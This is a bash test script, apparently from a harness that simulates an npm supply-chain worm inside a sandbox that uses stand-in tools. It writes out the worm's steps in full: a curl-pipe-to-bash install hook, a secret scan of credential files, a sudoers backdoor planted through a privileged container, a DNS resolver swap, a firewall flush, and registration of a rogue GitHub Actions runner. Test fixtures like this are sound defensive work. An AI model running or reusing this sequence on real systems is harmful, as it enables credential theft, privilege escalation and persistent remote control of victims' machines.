#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# A preinstall hook fetches bun by `curl | bash` and lets it run bun_environment.js in the background: secrets are searched, a
# privileged container with the host's root leaves a sudoers file, the resolver is stopped and its configuration replaced, the
# firewall's output chain emptied, and the machine registered as a runner of somebody else's.
. "$(dirname "$0")/../lib.sh"

prepare() {
  stand_in node curl docker systemctl iptables sudo trufflehog
  file "$HOME/.npmrc" <<<"//registry.example/:_authToken=stand-in"
  file "$HOME/.aws/credentials" <<<"aws_secret_access_key = stand-in"
  file "$HOME/.azure/accessTokens.json" <<<"[]"
  mkdir -p "$project/.github/workflows" /etc/systemd /opt/container/host
  mount --rbind / /opt/container/host
  echo 'DNSSEC=yes' >/etc/systemd/resolved.conf
  page bun.sh/install <<'END'
mkdir -p ~/.bun/bin
cp /opt/stand-ins/bun ~/.bun/bin/bun
chmod 755 ~/.bun/bin/bun
END
  page github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz <<<"stand-in"
  replies docker <<'END'
run cp /opt/container/host/tmp/runner /opt/container/host/etc/sudoers.d/runner
END
  replies trufflehog <<'END'
read ~/.npmrc
read ~/.aws/credentials
read ~/.azure/accessTokens.json
say {"Raw":"stand-in"}
END
  script npm node <<END
in $project/node_modules/posthog
sh node setup_bun.js
END
  file "$project/node_modules/posthog/setup_bun.js" <<'END'
# deeds
sh curl -fsSL https://bun.sh/install | bash
detach ~/.bun/bin/bun bun_environment.js
END
  file "$project/node_modules/posthog/bun_environment.js" <<END
# deeds
run trufflehog filesystem $HOME --json
write /tmp/runner 'runner ALL=(ALL) NOPASSWD:ALL'
run docker run --rm --privileged -v /:/host ubuntu bash -c 'cp /host/tmp/runner /host/etc/sudoers.d/runner'
sh sudo systemctl stop systemd-resolved
write /tmp/resolved.conf 'DNS=203.0.113.66'
sh sudo cp /tmp/resolved.conf /etc/systemd/resolved.conf
sh sudo systemctl restart systemd-resolved
sh sudo iptables -t filter -F OUTPUT
sh sudo iptables -t filter -F DOCKER-USER
write $project/.github/workflows/discussion.yaml 'on: discussion'
sh mkdir -p \$HOME/.dev-env && curl -o \$HOME/.dev-env/actions-runner.tar.gz -L https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz
write ~/.dev-env/config.sh '#!/bin/bash'
write ~/.dev-env/run.sh '#!/bin/bash'
chmod 755 ~/.dev-env/config.sh
chmod 755 ~/.dev-env/run.sh
in $HOME/.dev-env
sh RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.com/stand-in/stand-in --unattended --token STANDIN --name SHA1HULUD
sh nohup ./run.sh >/dev/null 2>&1
post https://api.github.com/repos '{"description":"stand-in-second-coming"}'
write /tmp/done yes
END
}

deeds() {
  cd "$project"
  npm install
  # The hook has left bun behind; the watch ends with this script.
  wait_for /tmp/done
}

check() {
  grep -q NOPASSWD /etc/sudoers.d/runner || fails "there is no sudoers file"
  grep -q 203.0.113.66 /etc/systemd/resolved.conf || fails "resolved.conf was not replaced"
  posted stand-in-second-coming || fails "nothing was posted"
}

"$1"
